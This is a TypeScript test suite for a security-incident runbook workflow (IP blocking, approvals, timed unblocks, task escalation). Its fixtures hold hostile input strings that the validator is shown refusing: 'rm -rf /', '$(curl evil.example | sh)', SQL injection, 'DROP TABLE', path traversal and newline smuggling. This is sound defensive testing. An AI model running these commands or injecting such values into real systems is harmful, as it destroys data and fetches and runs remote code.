// Every branch of the Security Incidents runbook (§7) in seconds: the real workflow on the time-skipping test server,
// its activities typed stubs (test/security-incident.test.ts runs it against the sandbox's real backend, Redis and
// PostgreSQL). Also the human tasks of the shared lifecycle, and the rules of what may be blocked, on hostile input.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WorkflowUpdateFailedError } from '@temporalio/client';
import type { AuditLogEvidence } from '../src/activities/postgres';
import type { BlockResult, DenyListRef } from '../src/activities/redis';
import type { ConfigInput } from '../src/config/schema';
import { AlertSchema } from '../src/intake/alertmanager';
import { checkBlockTarget } from '../src/security/address';
import type { BackendLogEvidence } from '../src/security/evidence';
import { summarizeBackendLog } from '../src/security/evidence';
import { parseNetwork } from '../src/security/address';
import {
  alertFiringSignal,
  approveUpdate,
  completeTaskSignal,
  completeTaskUpdate,
  rejectUpdate,
  resolveSignal,
  resolveUpdate,
  UpdateRefusal,
} from '../src/workflows/lifecycle/definitions';
import { timeSkippingIncidents, type ActivityStubs } from './support/timeSkipping';

const incidents = timeSkippingIncidents({
  taskQueuePrefix: 'security-branches',
  runbook: 'security-incident',
  labels: { alertname: 'BruteForceDetected', service: 'audit-app-backend', ip: '203.0.113.66' },
});
const { observe, outcomeOf, calls, pages } = incidents;

/**
 * The outcome once the timer that closes the incident has fired in skipped time. Seen in CI under load (1 run in 5
 * here): after the 2 min skip the incident kept a task in flight for 15 s. The likely cause: an activity of the close
 * (the undo, the last notification, the audit trail) ran while the clock jumped, timed out, and its retry's backoff
 * waits for time that no longer skips. So when the incident is still busy, skip a little more (at most 3 × 30 s); a
 * workflow that is really stuck still fails, naming its last events.
 */
async function outcomeAfterSkip(incident: Parameters<typeof outcomeOf>[0]) {
  for (let nudges = 0; ; nudges++) {
    try {
      return await outcomeOf(incident);
    } catch (err) {
      if (nudges >= 3 || !/in flight/.test(String(err))) throw err;
      await incidents.env.sleep('30s');
    }
  }
}

const ATTACKER = '203.0.113.66';
const TASKS = ['rotate-credentials', 'patch-vulnerabilities', 'update-security-rules'];

const config = (overrides: Partial<ConfigInput> = {}): ConfigInput => ({
  targets: {
    backend: { container: 'backend', healthUrl: 'http://127.0.0.1:9/health' },
    redis: { container: 'redis', url: 'redis://127.0.0.1:9/0' },
    postgres: { container: 'postgres', url: 'postgres://postgres@127.0.0.1:9/audit_app' },
  },
  approvers: { 'block-ip': ['sam'] },
  ...overrides,
});

/** Stubs for one incident: a deny-list in memory, a backend log and audit_log rows of the attacker. */
function securityStubs(): { stubs: ActivityStubs; denyList: Set<string> } {
  const denyList = new Set<string>();
  const stubs: ActivityStubs = {
    blockSource: async ({ source }: DenyListRef): Promise<BlockResult> => {
      const added = !denyList.has(source);
      denyList.add(source);
      return { source, denyList: 'Redis set blocklist:ips', added, size: denyList.size };
    },
    unblockSource: async ({ source }) => ({ source, denyList: 'Redis set blocklist:ips', removed: denyList.delete(source), size: denyList.size }),
    isBlocked: async ({ source }) => ({ source, denyList: 'Redis set blocklist:ips', blocked: denyList.has(source) }),
    backendLogForSource: async ({ source }): Promise<BackendLogEvidence> => ({
      container: 'backend',
      exists: true,
      linesRead: 500,
      matched: 31,
      requests: 30,
      statuses: { '201': 30 },
      users: ['admin', 'root'],
      paths: [{ path: '/api/v1/audit', count: 30 }],
      blocked: 1,
      rateLimited: 0,
      firstSeen: '2026-11-27T10:00:00.000Z',
      lastSeen: '2026-11-27T10:00:09.000Z',
      excerpt: [`2026-11-27T10:00:09.000Z WARN Blocked ${source}`],
    }),
    auditLogForSource: async ({ source }): Promise<AuditLogEvidence> => ({
      source,
      found: true,
      rows: 30,
      users: [
        { user: 'admin', count: 20 },
        { user: 'root', count: 10 },
      ],
      actions: [{ action: 'login-failed', count: 30 }],
      firstSeen: '2026-11-27T10:00:00.100Z',
      lastSeen: '2026-11-27T10:00:08.900Z',
      latest: [{ id: '30', at: '2026-11-27T10:00:08.900Z', ip: source, user: 'root', action: 'login-failed' }],
    }),
  };
  return { stubs, denyList };
}

const messages = (s: { timeline: Array<{ message: string }> }) => s.timeline.map((e) => e.message);

async function refusedWith(promise: Promise<unknown>, type: string): Promise<void> {
  await assert.rejects(promise, (err: unknown) => {
    assert.ok(err instanceof WorkflowUpdateFailedError, String(err));
    assert.equal((err.cause as { type?: string }).type, type, (err.cause as Error).message);
    return true;
  });
}

describe('what may be blocked (src/security/address.ts), on hostile input', () => {
  const rules = { minPrefix: { 4: 16, 6: 48 } as const, allowList: ['10.0.0.0/8'], ownAddresses: ['192.0.2.10'] };
  test('addresses and networks in canonical form; an IPv4-mapped IPv6 address is its IPv4 address', () => {
    const ok = (value: string) => {
      const checked = checkBlockTarget(value, rules);
      assert.ok(checked.ok, checked.ok ? '' : checked.reason);
      return checked.network.text;
    };
    assert.equal(ok('203.0.113.66'), '203.0.113.66');
    assert.equal(ok('203.0.113.0/24'), '203.0.113.0/24');
    assert.equal(ok('2001:DB8:0:0:0:0:0:1'), '2001:db8::1');
    assert.equal(ok('2001:db8:1::/48'), '2001:db8:1::/48');
    assert.equal(ok('::ffff:203.0.113.5'), '203.0.113.5');
  });

  test('each hostile value is refused with a reason that shows it harmlessly', () => {
    const refused: Array<[string, RegExp]> = [
      ["203.0.113.66' OR '1'='1", /^"203\.0\.113\.66' OR '1'='1" is not an IPv4 or IPv6 address or CIDR network/],
      ['; rm -rf /', /^"; rm -rf \/" is not an IPv4/],
      ['$(curl evil.example)', /^"\$\(curl evil\.example\)" is not/],
      ['203.0.113.66\nallow all', /^"203\.0\.113\.66\\nallow all" is not/],
      ['203.0.113.66\u0000', /^"203\.0\.113\.66\\u0000" is not/],
      ['9'.repeat(10_240), /\(10240 characters\) is not/],
      ['0.0.0.0/0', /^0\.0\.0\.0\/0 is wider than \/16: refusing to block every address$/],
      ['::/0', /^::\/0 is wider than \/48: refusing to block every address$/],
      ['203.0.0.0/8', /^203\.0\.0\.0\/8 is wider than \/16/],
      ['evil.example.com', /^"evil\.example\.com" is not an IPv4 or IPv6 address or CIDR network \(no hostnames/],
      ['localhost', /^"localhost" is not/],
      ['127.0.0.1', /^127\.0\.0\.1 is in 127\.0\.0\.0\/8 \(loopback/],
      ['::1', /^::1 is loopback/],
      ['10.1.2.3', /^10\.1\.2\.3 overlaps 10\.0\.0\.0\/8 in the allow-list/],
      ['192.0.2.0/24', /^192\.0\.2\.0\/24 overlaps 192\.0\.2\.10 in the runbooks' own addresses/],
      ['203.0.113.66/24', /its host bits are set \(did you mean 203\.0\.113\.0\/24\?\)/],
      ['203.0.113.066', /is not an IPv4/],
      ['*', /is not an IPv4/],
      ['', /is empty/],
    ];
    for (const [value, reason] of refused) {
      const checked = checkBlockTarget(value, rules);
      assert.ok(!checked.ok, `${JSON.stringify(value)} should be refused`);
      assert.match(checked.reason, reason);
      assert.ok(!checked.reason.includes('\n') && !checked.reason.includes('\u0000'), 'no raw control character in the reason');
    }
  });

  test("the backend's log lines of one client are matched on the client field, not as text", () => {
    const source = (parseNetwork(ATTACKER) as { ok: true; network: never }).network;
    const lines = [
      `2026-11-27T10:00:00.000Z ${ATTACKER} POST /api/v1/audit duration 3.1ms status=201 user=admin`,
      `2026-11-27T10:00:01.000Z 203.0.113.6 POST /api/v1/audit duration 3.1ms status=201 user=bob`,
      `2026-11-27T10:00:02.000Z 198.51.100.1 GET /api/v1/documents?q=${ATTACKER} duration 1.0ms status=200 user=-`,
      `2026-11-27T10:00:03.000Z WARN Blocked ${ATTACKER}`,
      `2026-11-27T10:00:04.000Z WARN Rate limit exceeded ${ATTACKER}`,
    ];
    const summary = summarizeBackendLog('backend', lines, source);
    assert.deepEqual(
      { matched: summary.matched, requests: summary.requests, users: summary.users, blocked: summary.blocked, rateLimited: summary.rateLimited, first: summary.firstSeen, last: summary.lastSeen },
      { matched: 3, requests: 1, users: ['admin'], blocked: 1, rateLimited: 1, first: '2026-11-27T10:00:00.000Z', last: '2026-11-27T10:00:04.000Z' },
    );
  });
});

describe('Security Incidents runbook, branch by branch (time-skipping server, stub activities)', { timeout: 240_000 }, () => {
  before(() => incidents.start());
  after(() => incidents.stop());

  test('blocked only once approved; security team told at once; investigated; tasks hold it open until completed', async () => {
    const { stubs, denyList } = securityStubs();
    const incident = await incidents.startIncident({}, config(), stubs);
    const waiting = await observe(incident);
    assert.deepEqual(waiting.pendingApprovals.map((p) => p.kind), ['block-ip']);
    assert.equal(waiting.pendingApprovals[0]!.question, `Block ${ATTACKER} on Redis set blocklist:ips (the backend answers it 403), until a human lifts it (runbooks unblock)?`);
    assert.equal(calls(incident).blockSource, undefined, 'nothing blocked before approval');
    assert.ok(pages.some((p) => p.workflowId === incident.workflowId && p.contacts.includes('security-team') && p.text.includes(`security incident from ${ATTACKER}`)), 'the security team is told at once');
    assert.deepEqual(waiting.tasks.map((t) => [t.id, t.state]), TASKS.map((id) => [id, 'open']));

    await incident.executeUpdate(approveUpdate, { args: [{ step: 'block-ip', by: 'sam' }] });
    const blocked = await observe(incident);
    assert.deepEqual([...denyList], [ATTACKER]);
    assert.equal(blocked.phase, 'needs-human');
    assert.ok(messages(blocked).includes(`Blocked ${ATTACKER}: added to Redis set blocklist:ips (1 entry); the backend answers it 403.`), messages(blocked).join('\n'));
    assert.ok(messages(blocked).includes(`The block of ${ATTACKER} stays until a human lifts it: runbooks unblock ${ATTACKER}`));
    const summary = blocked.timeline.find((e) => e.message.startsWith(`Investigation of ${ATTACKER}:`))!;
    assert.equal(
      summary.message,
      `Investigation of ${ATTACKER}: 30 request(s) in the backend's log, 30 audit_log row(s); users touched: admin, root; actions: login-failed ×30; first seen 2026-11-27T10:00:00.000Z, last seen 2026-11-27T10:00:09.000Z.`,
    );
    assert.ok(messages(blocked).some((m) => m.startsWith(`30 audit_log row(s) of ${ATTACKER}: users admin ×20, root ×10; actions login-failed ×30`)));

    // Resolve is refused while tasks are open; an unknown task is refused; a malformed signal only noted.
    await refusedWith(incident.executeUpdate(resolveUpdate, { args: [{ by: 'sam' }] }), UpdateRefusal.tasksOpen);
    await refusedWith(incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'make-coffee', by: 'sam' }] }), UpdateRefusal.noSuchOpenTask);
    await refusedWith(incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'rotate-credentials', by: '' }] }), UpdateRefusal.invalidPayload);
    await incident.signal(resolveSignal, { by: 'sam' });
    await incident.signal(completeTaskSignal, { task: 'rotate-credentials' } as never);
    const still = await observe(incident);
    assert.equal(still.phase, 'needs-human');
    assert.ok(messages(still).some((m) => m.startsWith('Ignored resolve by sam: 3 task(s) still open (rotate-credentials, patch-vulnerabilities, update-security-rules)')));
    assert.ok(messages(still).some((m) => m.startsWith('Ignored a malformed complete-task: by: ')));

    await incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'rotate-credentials', by: 'sam', note: 'rotated admin and root' }] });
    await refusedWith(incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'rotate-credentials', by: 'sam' }] }), UpdateRefusal.noSuchOpenTask);
    await incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'patch-vulnerabilities', by: 'kim' }] });
    assert.equal((await observe(incident)).phase, 'needs-human', 'one task still open');
    await incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'update-security-rules', by: 'kim', note: 'fail2ban on' }] });
    const outcome = await outcomeOf(incident);
    assert.equal(outcome.resolution, 'remediated');
    assert.ok(messages(outcome).includes('sam completed task "rotate-credentials" (Rotate exposed credentials (of the users the source touched)): rotated admin and root.'));
    assert.equal(outcome.timeline.filter((e) => e.kind === 'task-done').length, 3);
    assert.equal(calls(incident).blockSource, 1);
    assert.equal(calls(incident).unblockSource, undefined, 'the block stays after the incident closed');
  });

  test('blockImmediately: blocked at once; a re-sent alert and a second block do one thing; blockMinutes lifts it on time', async () => {
    const { stubs, denyList } = securityStubs();
    const incident = await incidents.startIncident({}, config({ policies: { 'security-incident': { blockImmediately: true, blockMinutes: 30 } } }), stubs);
    const status = await observe(incident);
    assert.deepEqual(status.pendingApprovals, []);
    assert.deepEqual([...denyList], [ATTACKER]);
    assert.ok(messages(status).includes(`Blocking ${ATTACKER} at once (policy blockImmediately), for 30 min.`));
    await incident.signal(alertFiringSignal, {});
    await observe(incident);
    assert.equal(calls(incident).blockSource, 1, 'a re-sent alert blocks nothing more');

    // Another incident for the same source (another alert) finds it blocked: nothing added, and nothing of its to lift.
    const second = await incidents.startIncident({ alertname: 'SuspiciousActivity' }, config({ policies: { 'security-incident': { blockImmediately: true, blockMinutes: 30 } } }), {
      ...stubs,
    });
    const secondStatus = await observe(second);
    assert.ok(messages(secondStatus).includes(`${ATTACKER} was already on Redis set blocklist:ips: nothing added (blocking twice is one block).`));
    assert.equal(denyList.size, 1);
    await second.terminate('test over');

    await incidents.env.sleep('29m');
    // Settled before the next skip: an activity still running when time jumps again would time out (and then wait out
    // its retry's backoff in time that only skips while the client waits).
    await observe(incident);
    assert.equal(calls(incident).unblockSource, undefined, 'still blocked after 29 min');
    await incidents.env.sleep('2m');
    const lifted = await observe(incident);
    assert.equal(calls(incident).unblockSource, 1);
    assert.deepEqual([...denyList], []);
    assert.ok(messages(lifted).some((m) => m.startsWith(`Lifted the block of ${ATTACKER} (Redis set blocklist:ips). (its time is up)`)), messages(lifted).join('\n'));
    await incident.terminate('test over');
  });

  test('isolate first: the security team\'s notification stalls, the block lands while it does, and it is told once the block is in', async () => {
    const { stubs, denyList } = securityStubs();
    const order: string[] = [];
    let blockLanded!: () => void;
    const landed = new Promise<void>((resolve) => (blockLanded = resolve));
    const incident = await incidents.startIncident({}, config({ policies: { 'security-incident': { blockImmediately: true } } }), {
      ...stubs,
      blockSource: async (arg) => {
        const block = await stubs.blockSource!(arg);
        order.push('blocked');
        blockLanded();
        return block;
      },
      // The security team's channel hangs until the block is in (a mail server retried for minutes would do the same).
      notify: async (notification) => {
        if (notification.text.includes('security incident from')) {
          order.push('notifying security');
          await landed;
          order.push('security notified');
        }
        return { delivered: notification.contacts, unknownContacts: [] };
      },
    });
    const status = await observe(incident);
    assert.deepEqual([...denyList], [ATTACKER]);
    assert.deepEqual(order.filter((o) => o !== 'notifying security'), ['blocked', 'security notified']);
    assert.ok(order.includes('notifying security'), 'the notification was sent without waiting for anything');
    // Both on the timeline (finished in the same workflow task, their order there says nothing about which came first).
    assert.ok(messages(status).includes(`Blocked ${ATTACKER}: added to Redis set blocklist:ips (1 entry); the backend answers it 403.`), messages(status).join('\n'));
    assert.ok(status.timeline.some((e) => e.kind === 'notified' && e.message.includes(`security incident from ${ATTACKER}; isolating it`)));
    assert.ok(messages(status).some((m) => m.startsWith(`Investigation of ${ATTACKER}:`)));
    await incident.terminate('test over');
  });

  test('a timed block holds its time: the tasks done early, the incident stays open with the block until its timer lifts it, then closes', async () => {
    const { stubs, denyList } = securityStubs();
    const incident = await incidents.startIncident({}, config({ policies: { 'security-incident': { blockImmediately: true, blockMinutes: 30 } } }), stubs);
    await observe(incident);
    for (const task of TASKS) await incident.executeUpdate(completeTaskUpdate, { args: [{ task, by: 'sam', note: 'done early' }] });
    const held = await observe(incident);
    assert.deepEqual(held.tasks.map((t) => t.state), ['done', 'done', 'done']);
    assert.equal(held.phase, 'remediating');
    assert.match(held.currentStep, new RegExp(`^Waiting to undo: lift the block of ${ATTACKER.replace(/\./g, '\\.')} at \\S+$`));
    assert.equal(held.undos?.[0]?.state, 'pending');
    assert.deepEqual([...denyList], [ATTACKER]);

    await incidents.env.sleep('29m');
    await observe(incident); // settled before the next skip, as above
    assert.equal((await incident.describe()).status.name, 'RUNNING', 'still open a minute before the block ends');
    assert.deepEqual([...denyList], [ATTACKER], 'still blocked a minute before its time');
    assert.equal(calls(incident).unblockSource, undefined);
    await incidents.env.sleep('2m');
    const outcome = await outcomeAfterSkip(incident);
    assert.equal(outcome.resolution, 'remediated');
    assert.deepEqual([...denyList], []);
    assert.equal(calls(incident).unblockSource, 1);
    assert.deepEqual(outcome.timeline.filter((e) => e.kind === 'undo').map((e) => e.message), [`Lifted the block of ${ATTACKER} (Redis set blocklist:ips). (its time is up)`]);
    const blockedAt = Date.parse(outcome.timeline.find((e) => e.message.startsWith(`Blocked ${ATTACKER}:`))!.at);
    const liftedAt = Date.parse(outcome.timeline.find((e) => e.kind === 'undo')!.at);
    assert.ok(liftedAt - blockedAt >= 30 * 60_000, 'lifted after its 30 min, not at the tasks\' completion');
  });

  test('a human resolves the incident while a timed block lasts: the block is lifted at close, as the rate limit\'s raise is put back', async () => {
    const { stubs, denyList } = securityStubs();
    const incident = await incidents.startIncident({}, config({ policies: { 'security-incident': { blockImmediately: true, blockMinutes: 60 } } }), stubs);
    await observe(incident);
    for (const task of TASKS) await incident.executeUpdate(completeTaskUpdate, { args: [{ task, by: 'sam' }] });
    await incidents.env.sleep('10m');
    await observe(incident);
    assert.deepEqual([...denyList], [ATTACKER]);
    await incident.executeUpdate(resolveUpdate, { args: [{ by: 'dana', note: 'the source is a scanner we hired' }] });
    const outcome = await outcomeOf(incident);
    assert.deepEqual([...denyList], []);
    assert.equal(calls(incident).unblockSource, 1);
    assert.deepEqual(outcome.timeline.filter((e) => e.kind === 'undo').map((e) => e.message), [`Lifted the block of ${ATTACKER} (Redis set blocklist:ips). (the incident is closing)`]);
    const blockedAt = Date.parse(outcome.timeline.find((e) => e.message.startsWith(`Blocked ${ATTACKER}:`))!.at);
    assert.ok(Date.parse(outcome.timeline.find((e) => e.kind === 'undo')!.at) - blockedAt < 30 * 60_000, 'long before the hour');
  });

  test('block rejected: nothing blocked, still investigated; a resolve with a reason closes the open tasks', async () => {
    const { stubs, denyList } = securityStubs();
    const incident = await incidents.startIncident({ ip_address: ATTACKER }, config(), stubs);
    await observe(incident);
    await incident.executeUpdate(rejectUpdate, { args: [{ step: 'block-ip', by: 'sam', reason: 'a partner behind NAT' }] });
    const status = await observe(incident);
    assert.equal(calls(incident).blockSource, undefined);
    assert.equal(denyList.size, 0);
    assert.ok(messages(status).includes(`Blocking ${ATTACKER} was not approved: it is not blocked.`));
    assert.ok(messages(status).some((m) => m.startsWith(`Investigation of ${ATTACKER}:`)));
    assert.equal(status.phase, 'needs-human');
    await incident.executeUpdate(resolveUpdate, { args: [{ by: 'sam', reason: 'false positive: a partner', note: 'closed' }] });
    const outcome = await outcomeOf(incident);
    assert.equal(outcome.resolution, 'resolved-by-human');
    assert.equal(outcome.timeline.filter((e) => e.message.includes('without completing it: false positive: a partner.')).length, 3);
  });

  test('an IPv6 network is blocked in canonical form', async () => {
    const { stubs, denyList } = securityStubs();
    await incidents.withIncident({ ip: '2001:DB8:1:0::/48' }, config({ policies: { 'security-incident': { blockImmediately: true } } }), async (incident) => {
      await observe(incident);
      assert.deepEqual([...denyList], ['2001:db8:1::/48']);
    }, stubs);
  });

  test('every hostile or too-wide label is refused as it is: no block, no query, the security team told, escalated', async () => {
    const hostile: Array<[Record<string, string>, RegExp, Partial<ConfigInput>?]> = [
      [{ ip: "203.0.113.66' OR '1'='1" }, /label ip: "203\.0\.113\.66' OR '1'='1" is not an IPv4 or IPv6 address/],
      [{ ip: '; rm -rf /' }, /label ip: "; rm -rf \/" is not/],
      [{ ip: '$(curl evil.example | sh)' }, /label ip: "\$\(curl evil\.example \| sh\)" is not/],
      [{ ip: `${ATTACKER}\n10.0.0.0/8` }, /label ip: "203\.0\.113\.66\\n10\.0\.0\.0\/8" is not/],
      [{ ip: `${ATTACKER}\u0000` }, /label ip: "203\.0\.113\.66\\u0000" is not/],
      [{ ip: '1'.repeat(10_240) }, /\(10240 characters\) is not/],
      [{ ip: '0.0.0.0/0' }, /label ip: 0\.0\.0\.0\/0 is wider than \/16: refusing to block every address/],
      [{ ip: '::/0' }, /label ip: ::\/0 is wider than \/48: refusing to block every address/],
      [{ ip: 'attacker.example.com' }, /label ip: "attacker\.example\.com" is not an IPv4 or IPv6 address or CIDR network \(no hostnames/],
      [{ ip: '127.0.0.1' }, /label ip: 127\.0\.0\.1 is in 127\.0\.0\.0\/8 \(loopback/],
      [{ ip: '198.51.100.7' }, /label ip: 198\.51\.100\.7 overlaps 198\.51\.100\.0\/24 in the allow-list/, { security: { allowList: ['198.51.100.0/24'] } }],
      [{ ip: '192.0.2.10' }, /label ip: 192\.0\.2\.10 overlaps 192\.0\.2\.10 in the runbooks' own addresses/, { security: { ownAddresses: ['192.0.2.10'] } }],
      [{ ip: ATTACKER, ip_address: '198.51.100.9' }, /the labels disagree: ip="203\.0\.113\.66", ip_address="198\.51\.100\.9"/],
      // undefined is dropped on the way: an alert without the label.
      [{ ip: undefined as never }, /the alert has no ip or ip_address label/],
    ];
    const started = await Promise.all(
      hostile.map(async ([labels, reason, extra]) => ({ labels, reason, incident: await incidents.startIncident(labels, config({ policies: { 'security-incident': { blockImmediately: true } }, ...extra }), securityStubs().stubs) })),
    );
    try {
      for (const { labels, reason, incident } of started) {
        const status = await observe(incident);
        const refusal = status.timeline.find((e) => e.message.startsWith("The alert's source is refused: "));
        assert.ok(refusal, `${JSON.stringify(labels).slice(0, 80)}: ${messages(status).join('\n')}`);
        assert.match(refusal.message, reason);
        assert.match(refusal.message, /Nothing is blocked or queried with it\.$/);
        assert.ok(!refusal.message.includes('\n') && !refusal.message.includes('\u0000'));
        const c = calls(incident);
        assert.deepEqual([c.blockSource, c.unblockSource, c.backendLogForSource, c.auditLogForSource], [undefined, undefined, undefined, undefined], JSON.stringify(labels).slice(0, 80));
        assert.equal(status.phase, 'needs-human');
        assert.equal(status.escalationLevel, 1);
        assert.ok(pages.some((p) => p.workflowId === incident.workflowId && p.contacts.includes('security-team') && p.text.includes('its source is unusable')));
      }
    } finally {
      for (const { incident } of started) await incident.terminate('test over');
    }
  });

  test('hostile service and severity labels are harmless literals: the default severity, one line of text, and no activity gets any of them', async () => {
    const hostile: Array<{ service: string; severity: string; shownAs: string }> = [
      { service: "backend'; DROP TABLE audit_log; --", severity: 'critical; rm -rf /', shownAs: "backend'; DROP TABLE audit_log; --" },
      { service: '$(rm -rf /)', severity: "low' OR '1'='1", shownAs: '$(rm -rf /)' },
      { service: 'backend\n[RESOLVED] all clear', severity: 'critical\n', shownAs: 'backend\\u000a[RESOLVED] all clear' },
      { service: '../../etc/passwd\r\u2028x', severity: '$(echo critical)', shownAs: '../../etc/passwd\\u000d\\u2028x' },
      { service: 's'.repeat(2_048), severity: 'x'.repeat(2_048), shownAs: 's'.repeat(200) },
    ];
    for (const { service, severity } of hostile) {
      const labels = { alertname: 'SuspiciousActivity', service, severity, ip: ATTACKER };
      assert.ok(AlertSchema.safeParse({ status: 'firing', labels, startsAt: '2026-11-27T10:00:00Z', fingerprint: 'ab12' }).success, 'the webhook lets them through to the runbook');
    }
    const args: Record<string, unknown[]> = {};
    const started = await Promise.all(
      hostile.map(async (h) => {
        const { stubs } = securityStubs();
        const recorded = Object.fromEntries(
          Object.entries(stubs).map(([name, stub]) => [name, async (arg: never) => ((args[name] ??= []).push(arg), (stub as (a: never) => Promise<unknown>)(arg))]),
        );
        const incident = await incidents.startIncident({ alertname: 'SuspiciousActivity', service: h.service, severity: h.severity }, config({ policies: { 'security-incident': { blockImmediately: true } } }), recorded);
        return { ...h, incident };
      }),
    );
    try {
      for (const { shownAs, incident } of started) {
        const status = await observe(incident);
        assert.equal(status.severity, 'high', "SuspiciousActivity's default: an unknown severity label is no severity");
        assert.equal(status.service, shownAs);
        assert.ok(messages(status).includes(`Blocked ${ATTACKER}: added to Redis set blocklist:ips (1 entry); the backend answers it 403.`), messages(status).join('\n'));
        const detected = status.timeline.find((e) => e.kind === 'detected')!;
        assert.equal(detected.message, `SuspiciousActivity fired for ${shownAs} (high).`);
        for (const page of pages.filter((p) => p.workflowId === incident.workflowId)) assert.ok(!/[\n\r\u2028]/.test(page.text), page.text);
      }
      // Every activity got the configured target and the checked source, nothing from the labels.
      const every = (target: string) => Array.from({ length: hostile.length }, () => ({ target, source: ATTACKER }));
      assert.deepEqual(args.blockSource, every('redis'));
      assert.deepEqual(args.backendLogForSource, every('backend'));
      assert.deepEqual(args.auditLogForSource, every('postgres'));
      assert.deepEqual(Object.keys(args).sort(), ['auditLogForSource', 'backendLogForSource', 'blockSource']);
    } finally {
      for (const { incident } of started) await incident.terminate('test over');
    }
  });

  test('tasks still open when due escalate once, together; a resolve with a reason closes them', async () => {
    const { stubs } = securityStubs();
    const incident = await incidents.startIncident({}, config({ policies: { 'security-incident': { blockImmediately: true, taskDueMinutes: 60 } } }), stubs);
    const first = await observe(incident);
    assert.equal(first.escalationLevel, 0);
    await incident.executeUpdate(completeTaskUpdate, { args: [{ task: 'rotate-credentials', by: 'sam' }] });
    await incidents.env.sleep('59m');
    assert.equal((await observe(incident)).timeline.filter((e) => e.kind === 'task-overdue').length, 0);
    await incidents.env.sleep('2m');
    const late = await observe(incident);
    assert.deepEqual(late.timeline.filter((e) => e.kind === 'task-overdue').map((e) => e.data?.task), ['patch-vulnerabilities', 'update-security-rules']);
    // The ladder climbs on its own (critical: 15 min without an acknowledgement); the tasks escalate once, together.
    const escalations = late.timeline.filter((e) => e.kind === 'escalated' && e.message.includes('overdue'));
    assert.equal(escalations.length, 1, messages(late).join('\n'));
    assert.match(escalations[0]!.message, /^2 task\(s\) overdue: patch-vulnerabilities, update-security-rules: escalated to \S+ \(level \d\)\.$/);
    assert.deepEqual(late.tasks.map((t) => [t.id, t.state, t.overdue]), [['rotate-credentials', 'done', false], ['patch-vulnerabilities', 'open', true], ['update-security-rules', 'open', true]]);
    await incident.executeUpdate(resolveUpdate, { args: [{ by: 'sam', reason: 'handed to the security team\'s own tracker' }] });
    const outcome = await outcomeOf(incident);
    assert.equal(outcome.resolution, 'remediated');
    assert.equal(outcome.timeline.filter((e) => e.kind === 'task-overdue').length, 2, 'once each');
  });
});
